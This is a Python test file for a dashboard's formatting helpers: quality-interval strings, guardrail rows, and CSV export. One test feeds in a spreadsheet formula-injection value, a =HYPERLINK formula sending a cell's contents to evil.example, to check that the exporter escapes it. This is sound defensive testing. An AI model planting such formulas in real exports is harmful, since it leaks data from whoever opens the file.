"""How the dashboard writes the gate's one-sided quality bounds."""

from __future__ import annotations

from dashboard import fmt


def test_quality_interval_leaves_out_a_bound_at_the_edge_of_the_scale() -> None:
    assert fmt.quality_interval(-0.011, 0.001) == "[-0.0110, +0.0010]"
    assert fmt.quality_interval(-0.027, 1.0) == ">= -0.0270"  # the usual GO: only the lower bound says much
    assert fmt.quality_interval(-1.0, -0.06) == "<= -0.0600"  # futility
    assert fmt.quality_interval(-1.0, 1.0) == "not bounded yet"
    assert fmt.quality_interval(None, 0.2) == "-"


def test_approvals_page_lists_every_judged_guardrail_by_name() -> None:
    guardrail_rows = fmt.guardrail_rows
    gate = {"guardrails": [
        {"name": "treatment_error_rate", "value": 0.0, "threshold": 0.02, "breached": False,
         "evaluated": True},
        {"name": "some_new_check", "value": 0.3, "threshold": 0.1, "breached": True, "evaluated": True},
        {"name": "treatment_latency_over_slo", "value": None, "threshold": 0.05, "breached": False,
         "evaluated": False, "note": "needs 30 treatment rows to be judged (3 so far)"},
    ]}  # fmt: skip
    monitor = {"guardrails": {"checks": gate["guardrails"][:1], "breached": []}}
    rows = guardrail_rows(gate)
    assert [(r["guardrail"], r["status"]) for r in rows] == [
        ("treatment error rate", "holds"),
        ("some new check", "breached"),
        ("treatment latency over slo", "not judged"),
    ]
    assert rows[2]["note"].startswith("needs 30") and rows[1]["limit"] == 0.1
    assert guardrail_rows(monitor) == rows[:1]
    assert guardrail_rows({"quality": {}}) == []


def test_the_csv_export_keeps_a_formula_a_text() -> None:
    """An audit row whose text starts like a spreadsheet formula (an anonymous sign-in attempt named
    `=HYPERLINK(...)`, review s46 A8) is exported with a leading quote; numbers and plain text as they are."""
    import csv
    import io

    import pandas as pd

    df = pd.DataFrame(
        {
            "id": [1, 2],
            "entity_id": ['=HYPERLINK("https://evil.example/?x="&B2,"details")', "alice"],
            "details": ["@SUM(A1)", '{"via": "cli"}'],
            "reason": ["-2+3", "\tcmd"],
        }
    )
    rows = list(csv.DictReader(io.StringIO(fmt.spreadsheet_csv(df).decode("utf-8"))))
    link = '=HYPERLINK("https://evil.example/?x="&B2,"details")'
    assert [r["entity_id"] for r in rows] == [f"'{link}", "alice"]
    assert [r["details"] for r in rows] == ["'@SUM(A1)", '{"via": "cli"}']
    assert [r["reason"] for r in rows] == ["'-2+3", "'\tcmd"]
    assert [r["id"] for r in rows] == ["1", "2"]
    assert df["entity_id"][0].startswith("=")  # the page's own table is unchanged
